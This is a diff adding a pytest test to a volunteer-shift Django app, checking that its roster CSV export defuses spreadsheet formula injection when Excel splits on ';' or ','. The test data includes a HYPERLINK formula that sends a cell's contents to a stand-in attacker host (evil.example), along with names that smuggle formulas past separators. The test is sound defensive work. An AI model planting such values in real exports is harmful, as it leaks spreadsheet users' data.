@@ -15,6 +15,7 @@ from events import errors, services
 from events.models import Shift, Signup
 from tests.conftest import EVENT_DAY, on_event_day
 from tests.factories import make_shift, make_volunteer, make_volunteers
+from tests.spreadsheet_reading import formulas
 
 
 def text(response) -> str:
@@ -480,3 +481,26 @@ def test_the_shifts_of_a_past_edition_are_history(coordinator_client, branch):
     assert "vond plaats op" in text(deleted)
     old_shift.refresh_from_db()
     assert (old_site.shifts.count(), old_shift.capacity) == (1, 2)
+
+
+def test_roster_csv_is_safe_in_excel_with_either_separator(coordinator_client, shift):
+    # Dutch Excel splits on ";": a name "Noor;=HYPERLINK(…)" passed the guard, which only
+    # looked at the start of the cell, and became a formula in a cell of its own.
+    attacks = {
+        "first_name": 'Noor;=HYPERLINK("https://evil.example/?"&B2)',
+        "last_name": "Haddad,@SUM(1+1)",
+    }
+    person = make_volunteer("noor@example.org", **attacks)
+    person.phone = "06 1234;-5678"
+    person.save()
+    services.signup_create(shift=shift, volunteer=person)
+    for name in ["Sam\r\n=1+1", 'Kim; "+1', "Lee;\t=1"]:
+        services.signup_create(shift=shift, volunteer=make_volunteer(first_name=name))
+    response = coordinator_client.get(reverse("events:roster_csv", args=[shift.site_id]))
+    text = response.content.decode("utf-8-sig")
+    assert formulas(text) == []
+    rows = list(csv.reader(io.StringIO(text)))
+    # What a reader that honours the quotes sees: the names, with a quote before each part
+    # Excel may split off.
+    assert rows[1][6:8] == ['Noor;\'=HYPERLINK("https://evil.example/?"&B2)', "Haddad,'@SUM(1+1)"]
+    assert rows[1][9] == "06 1234;'-5678"
